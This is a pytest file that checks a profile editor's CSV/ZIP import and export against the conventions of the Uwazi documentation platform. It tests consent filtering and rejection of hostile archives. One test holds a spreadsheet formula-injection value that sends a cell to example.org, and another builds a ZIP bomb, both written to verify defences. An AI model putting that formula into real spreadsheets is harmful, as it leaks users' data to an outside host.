"""Uwazi CSV interchange: our writer and reader against Uwazi's own conventions
(huridocs/uwazi app/api/csv/ and app/shared/propertyNames.ts), a round trip through real vaults,
files in the shape Uwazi's exporter writes, and hostile ZIPs."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from pathlib import Path

import pytest

from profileeditor.core.keyfile import KdfParams
from profileeditor.core.levels import select_for_level
from profileeditor.core.uwazi_template import PERSON, TEMPLATES, safe_name
from profileeditor.core.vault import Vault
from profileeditor.export import uwazi as uwazi_export
from profileeditor.importers import uwazi
from profileeditor.importers.json_import import BadInputFile, import_document
from profileeditor.importers.sheets import Sheet
from profileeditor.importers.spreadsheet import apply_plan, plan_import

# Uwazi's own test vectors for the "new name generation" rule (propertyNames.spec.ts).
SAFE_NAME_VECTORS = {
    " my prop ": "my_prop",
    'my^foreïgn$próp"': "my^foreïgn$próp_",
    "TEST#": "test_",
    "test\\": "test_",
    "test/": "test_",
    "*test*": "test_",
    "test?": "test_",
    'test"': "test_",
    "test<": "test_",
    "test>": "test_",
    "test|": "test_",
    "te st ": "te_st",
    "test: ": "test_",
    "te.st. ": "te_st_",
    "[brackets]": "brackets_",
    "test%": "test_",
    ".test ": "test",
    "_test": "test",
    "+test": "test",
    "$test": "test",
    "-test": "test",
}


@pytest.mark.parametrize(("label", "expected"), SAFE_NAME_VECTORS.items())
def test_safe_name_follows_uwazi(label, expected):
    assert safe_name(label) == expected


def test_safe_name_keeps_arabic_letters():
    assert safe_name("تاريخ القبض") == "تاريخ_القبض"


def _csv(zip_path: Path) -> list[dict[str, str]]:
    with zipfile.ZipFile(zip_path) as zf:
        text = zf.read("import.csv").decode("utf-8")
    return list(csv.DictReader(io.StringIO(text)))


def _comparable(value):
    """A profile as its public fields say it: no ids, record times, empty texts or photos
    (photos are compared by their bytes apart)."""
    skip = {"id", "photo", "attachments", "created_at", "updated_at", "sources", "recycled_from"}
    if isinstance(value, dict):
        out = {k: _comparable(v) for k, v in value.items() if k not in skip}
        return {k: v for k, v in out.items() if v not in ("", {}, [], None)}
    if isinstance(value, list):
        return [_comparable(v) for v in value]
    return value


def _new_vault(path: Path) -> Vault:
    vault, _ = Vault.create(path, "uwazi test passphrase", KdfParams.insecure_for_tests())
    return vault


def test_export_follows_uwazi_import_conventions(demo_vault, tmp_path):
    profiles = demo_vault.repository.get_profiles(demo_vault.repository.ids(""))
    uwazi_export.write(tmp_path, profiles, "public", include_unconsented=True)
    people = _csv(tmp_path / PERSON.file)
    headers = list(people[0])
    assert headers[:2] == ["title__ar", "title__en"]
    assert "id" not in headers  # ids only when asked
    assert {"biography__ar", "biography__en", "date_of_birth", "attachments"} <= set(headers)
    assert all(h == safe_name(h.split("__")[0]) + h[len(h.split("__")[0]) :] for h in headers)
    salma = next(r for r in people if r["title__en"].startswith("Salma"))
    assert salma["sex"] == "Female" and salma["profession"] == "Journalist"
    assert salma["attachments"].startswith("photo-0") and "Salma" not in salma["attachments"]
    with zipfile.ZipFile(tmp_path / PERSON.file) as zf:
        assert salma["attachments"] in zf.namelist()  # the photo beside import.csv
        assert {i.date_time for i in zf.infolist()} == {(1980, 1, 1, 0, 0, 0)}
    cases = _csv(tmp_path / "4-cases.zip")
    assert any("|" in row["charges"] for row in cases)  # multi-values joined with |
    detentions = _csv(tmp_path / "2-detentions.zip")
    ranges = [row["enforced_disappearance"] for row in detentions if row["enforced_disappearance"]]
    assert ranges and all(":" in r and "~" not in r for r in ranges)  # from:to
    sessions = _csv(tmp_path / "5-sessions.zip")
    assert all(row["case"] in {c["title"] for c in cases} for row in sessions)
    thesaurus = (tmp_path / "thesauri" / "profession.csv").read_text(encoding="utf-8")
    assert thesaurus.splitlines()[0] == "English,Arabic"
    assert "Journalist,صحفي" in thesaurus


def test_round_trip_into_a_fresh_vault_keeps_every_public_field(demo_vault, tmp_path):
    repo = demo_vault.repository
    profiles = repo.get_profiles(repo.ids(""))
    uwazi_export.write(tmp_path / "out", profiles, "public", include_unconsented=True)
    doc = uwazi.read(tmp_path / "out")
    assert isinstance(doc, dict)
    with _new_vault(tmp_path / "fresh.pevault") as fresh:
        result = import_document(fresh.repository, doc, checked=True)
        assert len(result.created) == len(profiles)
        back = fresh.repository.get_profiles(fresh.repository.ids(""))
    expected = select_for_level(profiles, "public", include_unconsented=True)
    by_name = {p["name"]["en"]: p for p in back}
    for original in expected:
        copy = by_name[original["name"]["en"]]
        assert _comparable(copy) == _comparable(original), original["name"]["en"]
        assert bool(copy.get("photo")) == bool(original.get("photo"))
        # relationships by title come back as ids of the new records
        titles = {s.get("title") for s in copy.get("sources", [])}
        assert titles == {s.get("title") for s in original.get("sources", [])}
    recycled = 0
    cases = {c["id"]: c for p in back for c in p.get("cases", [])}
    original_cases = {c["id"]: c for p in expected for c in p.get("cases", [])}
    for profile in expected:
        copy = by_name[profile["name"]["en"]]
        for case, case_copy in zip(profile.get("cases", []), copy.get("cases", []), strict=True):
            if case.get("recycled_from"):
                recycled += 1
                source = original_cases[case["recycled_from"]]
                source_copy = cases[case_copy["recycled_from"]]
                assert (source["number"], source["year"]) == (
                    source_copy["number"],
                    source_copy["year"],
                )
    assert recycled  # the sample vault has recycled cases: the check above ran


def test_reimport_updates_instead_of_doubling(demo_vault, tmp_path):
    profiles = demo_vault.repository.get_profiles(demo_vault.repository.ids(""))
    uwazi_export.write(tmp_path, profiles, "public", include_unconsented=True)
    with _new_vault(tmp_path / "fresh.pevault") as fresh:
        import_document(fresh.repository, uwazi.read(tmp_path), checked=True)
        again = import_document(fresh.repository, uwazi.read(tmp_path), checked=True)
        assert not again.created and fresh.repository.count() == len(profiles)


def test_public_export_leaves_out_unconsented_and_confidential(demo_vault, tmp_path):
    repo = demo_vault.repository
    profiles = repo.get_profiles(repo.ids(""))
    uwazi_export.write(tmp_path, profiles, "public")
    everything = b"".join(
        zipfile.ZipFile(tmp_path / t.file).read("import.csv") for t in TEMPLATES
    ).decode("utf-8")
    for profile in profiles:
        consented = (profile.get("consent") or {}).get("level") == "full"
        assert (profile["name"]["en"] in everything) == consented
        for text in [
            (profile.get("health") or {}).get("en"),
            (profile.get("lawyers") or {}).get("ar"),
        ]:
            if text:
                assert text not in everything


def test_formula_like_cells_are_written_as_text_and_read_back(demo_vault, tmp_path):
    repo = demo_vault.repository
    profile = repo.get_profiles(repo.ids(""))[0]
    profile["aliases"] = ['=HYPERLINK("https://example.org/?leak="&C3,"Details")']
    uwazi_export.write(tmp_path, [profile], "internal")
    row = _csv(tmp_path / PERSON.file)[0]
    assert row["aliases"].startswith("'=")
    doc = uwazi.read(tmp_path / PERSON.file)
    assert doc["profiles"][0]["aliases"] == profile["aliases"]


def _uwazi_exporter_csv(rows: list[list[str]]) -> bytes:
    out = io.StringIO()
    csv.writer(out).writerows(rows)
    return out.getvalue().encode("utf-8")


def test_a_file_from_uwazis_exporter_of_our_template_reads_losslessly(tmp_path):
    """Uwazi's exporter writes labels as headers, Title, `~` in ranges and its common columns,
    and no id (csvExporter.ts)."""
    path = tmp_path / "export.csv"
    path.write_bytes(
        _uwazi_exporter_csv(
            [
                [
                    "Title",
                    "Date added",
                    "Template",
                    "Sex",
                    "Date of birth",
                    "Profession",
                    "Status",
                    "Biography",
                    "Tags",
                    "Documents",
                    "Attachments",
                    "Published",
                ],
                [
                    "Alaa Abd El-Fattah",
                    "2024-03-01",
                    "Detained person",
                    "Male",
                    "1981-11-18",
                    "Blogger",
                    "In detention",
                    "Software developer and blogger.",
                    "cop27|blogger",
                    "",
                    "",
                    "Published",
                ],
            ]
        )
    )
    assert uwazi.looks_like_uwazi(path)
    doc = uwazi.read(path)
    assert isinstance(doc, dict)
    person = doc["profiles"][0]
    assert person["name"] == {"en": "Alaa Abd El-Fattah"}
    assert person["sex"] == "male" and person["profession"] == "blogger"
    assert person["status"] == "detained" and person["tags"] == ["cop27", "blogger"]
    assert person["birth_date"] == "1981-11-18"
    assert person["bio"] == {"en": "Software developer and blogger."}


def test_an_uwazi_file_of_other_templates_goes_to_the_spreadsheet_mapping(vault, tmp_path):
    path = tmp_path / "detainees.csv"
    path.write_bytes(
        _uwazi_exporter_csv(
            [
                [
                    "Title",
                    "Date added",
                    "Template",
                    "Gender",
                    "Date of arrest",
                    "Prison",
                    "Case number",
                    "Detention period",
                    "Documents",
                    "Attachments",
                    "Published",
                ],
                [
                    "Mohamed Oxygen",
                    "2024-03-01",
                    "Detainee",
                    "Male",
                    "2019-09-21",
                    "Tora Prison",
                    "1356/2019",
                    "2019-09-21~2022-01-01",
                    "",
                    "",
                    "Published",
                ],
            ]
        )
    )
    assert uwazi.looks_like_uwazi(path)
    sheet = uwazi.read(path)
    assert isinstance(sheet, Sheet)
    assert "Date added" not in sheet.headers and "Published" not in sheet.headers
    assert sheet.headers[0] == "Name"
    assert "Detention period (end)" in sheet.headers
    plan = plan_import(vault.repository, sheet)
    assert not plan.has_errors, [str(p) for p in plan.problems]
    apply_plan(vault.repository, plan)
    profile = vault.repository.get_profiles(vault.repository.ids(""))[0]
    assert profile["name"]["en"] == "Mohamed Oxygen"
    assert profile["detentions"][0]["arrest_date"] == "2019-09-21"
    assert profile["cases"][0]["number"] == "1356"


def _zip_with(path: Path, entries: dict[str, bytes]) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in entries.items():
            zf.writestr(name, data)
    return path


def test_hostile_zips_are_refused_with_one_error(tmp_path, monkeypatch):
    with pytest.raises(BadInputFile, match=r"no import\.csv"):
        uwazi.read(_zip_with(tmp_path / "a.zip", {"other.csv": b"title\nx\n"}))
    (tmp_path / "b.zip").write_bytes(b"PK\x03\x04 not really a zip")
    with pytest.raises(BadInputFile, match="not a ZIP"):
        uwazi.read(tmp_path / "b.zip")
    # A bomb: 64 MiB of zeros compress to a few kB; refused from its size, not expanded.
    monkeypatch.setattr(uwazi, "MAX_CSV_BYTES", 1024 * 1024)
    bomb = _zip_with(tmp_path / "c.zip", {"import.csv": b"title\n" + b"0" * (64 * 2**20)})
    assert bomb.stat().st_size < 2**20
    with pytest.raises(BadInputFile, match="larger than"):
        uwazi.read(bomb)


def test_a_child_whose_parent_is_missing_is_refused(demo_vault, tmp_path):
    profiles = demo_vault.repository.get_profiles(demo_vault.repository.ids(""))
    uwazi_export.write(tmp_path, profiles[:1], "internal")
    rows = _csv(tmp_path / "2-detentions.zip")
    rows[0]["detained_person"] = "Somebody else"
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=list(rows[0]))
    writer.writeheader()
    writer.writerows(rows)
    _zip_with(tmp_path / "2-detentions.zip", {"import.csv": out.getvalue().encode()})
    with pytest.raises(BadInputFile, match="belongs to no person"):
        uwazi.read(tmp_path)


def test_templates_doc_lists_every_property():
    files = uwazi_export.build([], "public")
    doc = files["TEMPLATES.md"].decode("utf-8")
    for template in TEMPLATES:
        for prop in template.props:
            assert prop.label_en in doc
    assert json.dumps(sorted(files)).count("thesauri/") >= 10


def test_ids_only_when_asked_and_then_kept(demo_vault, tmp_path):
    repo = demo_vault.repository
    profiles = repo.get_profiles(repo.ids(""))
    uwazi_export.write(tmp_path, profiles, "internal", keep_ids=True)
    people = _csv(tmp_path / PERSON.file)
    assert {row["id"] for row in people} == {p["id"] for p in profiles}
    doc = uwazi.read(tmp_path)
    assert {p["id"] for p in doc["profiles"]} == {p["id"] for p in profiles}
    cases = {c["id"] for p in doc["profiles"] for c in p.get("cases", [])}
    assert cases == {c["id"] for p in profiles for c in p.get("cases", [])}
